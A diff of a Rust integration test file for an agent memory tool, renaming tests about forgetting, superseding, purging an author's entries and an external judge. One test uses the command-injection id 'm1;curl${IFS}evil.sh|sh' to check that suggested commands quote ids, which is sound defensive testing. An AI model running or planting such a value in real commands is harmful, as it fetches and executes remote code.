@@ -1,5 +1,5 @@
-//! What becomes of memories, by the real programs: verdicts, replacement, forgetting and its undoing, attached and
-//! alone, over the command line and MCP. Not here: the laws of the fold (`projection::course`).
+//! The lifecycle of memories, by the real programs: verdicts, replacement, forgetting and undoing it, shared and
+//! alone, on the command line and over MCP. Not here: the laws of the fold (`memory::course`).
 
 use serde_json::{Value, json};
 
@@ -44,7 +44,7 @@ fn shown(world: &World, id: &str) -> Value {
 
 // S-LIFE-4, S-LIFE-7
 #[test]
-fn what_is_forgotten_is_in_no_answer_until_it_is_brought_back() {
+fn a_forgotten_memory_is_in_no_answer_until_restored() {
     for world in [World::new(), World::sharing()] {
         let (old, new) = two_lessons(&world);
         assert_eq!(found(&world).len(), 2);
@@ -91,7 +91,7 @@ fn a_chain_of_replacements_leaves_its_end_and_never_closes() {
 
 // S-LIFE-7
 #[test]
-fn nothing_is_written_where_one_of_several_ids_is_wrong() {
+fn one_wrong_id_of_several_writes_nothing() {
     let world = World::new();
     let (old, _) = two_lessons(&world);
     for args in [
@@ -113,7 +113,7 @@ fn nothing_is_written_where_one_of_several_ids_is_wrong() {
 
 // S-LIFE-2, S-MCP-2
 #[test]
-fn verdicts_over_mcp_count_once_a_session_and_reorder_the_answers() {
+fn verdicts_count_once_per_session_and_change_ranking() {
     for era in BOTH {
         let world = World::new();
         let (old, new) = two_lessons(&world);
@@ -137,7 +137,7 @@ fn verdicts_over_mcp_count_once_a_session_and_reorder_the_answers() {
         let forgotten = client.told("memory_forget", &json!({"ids": [new], "superseded_by": old}));
         assert!(forgotten.contains("superseded by"), "{forgotten}");
         assert_eq!(found(&world), [old]);
-        // Who said it is told by the program, not by the text.
+        // The program tells who said it, not the text.
         let last = event(world.log_lines(LOG).last().unwrap()).unwrap();
         assert_eq!((last.source.as_deref(), last.repo.as_str()), (Some("agent"), REPO));
     }
@@ -177,7 +177,7 @@ fn a_lesson_may_be_written_for_a_time_and_as_a_guess() {
 
 // S-LIFE-8
 #[test]
-fn what_is_saved_twice_is_one_memory_and_by_another_voice_is_evidence() {
+fn a_repeated_save_is_one_memory_or_evidence() {
     let world = World::new();
     let lesson = json!({"event_type": "error", "repo": REPO, "lesson": "raise the walrus timeout to 90 seconds", "tags": ["walrus"]});
     let save = |session: &str, lesson: &Value| {
@@ -208,7 +208,7 @@ fn what_is_saved_twice_is_one_memory_and_by_another_voice_is_evidence() {
 
 // S-LIFE-9
 #[test]
-fn what_may_contradict_is_told_when_it_is_saved_and_listed_until_it_is_settled() {
+fn possible_contradictions_are_listed_until_settled() {
     let world = World::new();
     let mut client = Client::open(&world, BOTH[1]);
     let mut save = |lesson: &str| {
@@ -236,7 +236,7 @@ fn what_may_contradict_is_told_when_it_is_saved_and_listed_until_it_is_settled()
     assert!(none.contains("Nothing to review among 3 memories"), "{none}");
 }
 
-/// A lesson as a hand-written line.
+/// Returns a lesson as a hand-written line.
 fn line(id: &str, day: &str, agent: &str, kind: &str, lesson: &str) -> Value {
     json!({"id": id, "timestamp": format!("{day}T12:00:00Z"), "agent_id": agent, "repo": REPO, "event_type": kind, "lesson": lesson})
 }
@@ -255,7 +255,7 @@ fn lines(world: &World, lines: &[Value]) {
 
 // S-LIFE-10
 #[test]
-fn all_that_somebody_wrote_is_taken_back_at_once_and_brought_back() {
+fn a_purge_retracts_an_author_and_can_be_undone() {
     let world = World::new();
     let good =
         line("01GOOD", "2026-01-01", "codex", "error", "walrus build hangs: raise the timeout");
@@ -283,7 +283,7 @@ fn all_that_somebody_wrote_is_taken_back_at_once_and_brought_back() {
 
 // S-LIFE-10
 #[test]
-fn the_links_that_somebody_told_go_with_them_also_those_of_code() {
+fn a_purge_also_removes_the_links_of_an_author() {
     let world = World::new();
     let link = |id: &str, source: &str, target: &str| {
         let mut line = about(id, "2026-01-03", "mallory", source, "link");
@@ -317,7 +317,7 @@ fn the_links_that_somebody_told_go_with_them_also_those_of_code() {
 
 // S-REPLY-3
 #[test]
-fn an_id_stands_quoted_in_the_commands_that_replies_offer() {
+fn replies_quote_ids_in_suggested_commands() {
     let world = World::new();
     let id = "m1;curl${IFS}evil.sh|sh";
     lines(&world, &[line(id, "2026-01-01", "codex", "error", "walrus build hangs: restart it")]);
@@ -331,7 +331,7 @@ fn an_id_stands_quoted_in_the_commands_that_replies_offer() {
 
 // S-LIFE-11
 #[test]
-fn what_nobody_needed_for_long_fades_when_asked_to_and_comes_back() {
+fn unneeded_memories_fade_on_request_and_come_back() {
     let world = World::new();
     lines(
         &world,
@@ -366,7 +366,7 @@ fn what_nobody_needed_for_long_fades_when_asked_to_and_comes_back() {
 
 // S-LIFE-12
 #[test]
-fn every_answer_can_be_had_as_it_was() {
+fn every_answer_is_available_as_of_a_past_time() {
     let world = World::new();
     let here = world.path("api");
     world.git(&here, &["init", "--quiet"]);
@@ -428,7 +428,7 @@ fn a_pair(world: &World) -> (String, String) {
     ("01OLDER".to_owned(), "01NEWER".to_owned())
 }
 
-/// Answers one request as a server of chat completions does, with `content`; returns what it was asked.
+/// Answers one request as a chat completion server does, with `content`; returns the request.
 fn serve_once(listener: std::net::TcpListener, content: &str) -> std::thread::JoinHandle<String> {
     use std::io::{BufRead, BufReader, Read, Write};
     let answer = json!({"choices": [{"index": 0, "message": {"role": "assistant", "content": content}, "finish_reason": "stop"}]}).to_string();
@@ -458,7 +458,7 @@ fn serve_once(listener: std::net::TcpListener, content: &str) -> std::thread::Jo
 
 // S-JUDGE-1, S-JUDGE-2
 #[test]
-fn a_judge_that_is_a_server_is_asked_only_when_told_to_and_obeyed_only_when_told_to() {
+fn a_judge_server_is_asked_and_obeyed_only_on_request() {
     let world = World::new();
     let (older, newer) = a_pair(&world);
     let without = world.agent_knowledge(&["review", "--repo", REPO, "--judge"]);
@@ -493,7 +493,7 @@ fn a_judge_that_is_a_server_is_asked_only_when_told_to_and_obeyed_only_when_told
 // S-JUDGE-1, S-JUDGE-2
 #[cfg(unix)]
 #[test]
-fn a_judge_that_is_a_program_may_merge_two_and_its_silence_is_an_error() {
+fn a_judge_program_can_merge_and_silence_is_an_error() {
     let world = World::new();
     a_pair(&world);
     let judge = |script: &str| {
@@ -515,7 +515,7 @@ fn a_judge_that_is_a_program_may_merge_two_and_its_silence_is_an_error() {
 
 // S-LIFE-10
 #[test]
-fn what_an_author_hid_of_their_own_is_not_seen_again_by_a_purge() {
+fn a_purge_does_not_reveal_what_its_author_hid() {
     let world = World::new();
     let mut replaced = about("01SELF", "2026-01-03", "mallory", "01ONE", "supersede");
     replaced["superseded_by"] = "01TWO".into();
@@ -547,7 +547,7 @@ fn what_an_author_hid_of_their_own_is_not_seen_again_by_a_purge() {
 
 // S-LIFE-8
 #[test]
-fn a_task_that_comes_up_again_is_another_task() {
+fn a_repeated_task_is_a_new_task() {
     let world = World::new();
     let task = json!({"event_type": "task", "repo": REPO, "lesson": "rotate the walrus keys"});
     let mut client = Client::open(&world, BOTH[0]);
@@ -574,7 +574,7 @@ fn a_judge_that_fails_or_gives_orders_changes_nothing() {
         world.configure(&format!("[judge]\ncommand = ['sh', '-c', {script:?}]\n"));
         world.agent_knowledge(&["review", "--repo", REPO, "--judge", "--apply"])
     };
-    // It knows one answer and then no more.
+    // This judge answers once and then fails.
     let once = "cat > /dev/null; if mkdir asked 2> /dev/null; then echo '{\"decision\":\"supersede_old\"}'; else exit 1; fi";
     assert_eq!(judge(once).exit, Some(69));
     assert_eq!(world.log_lines(LOG).len(), 2, "not even the first was done");
@@ -585,7 +585,7 @@ fn a_judge_that_fails_or_gives_orders_changes_nothing() {
         "{said}"
     );
     assert_eq!(found_with(&world, "walrus gateway port").len(), 3);
-    // Of pairs that share a memory only the first is settled in one run.
+    // Of pairs that share a memory only the first is decided in one run.
     let said = judge("cat > /dev/null; echo '{\"decision\":\"keep_both\"}'").done();
     assert!(said.contains("; done") && said.contains("skipped: another decision"), "{said}");
 }
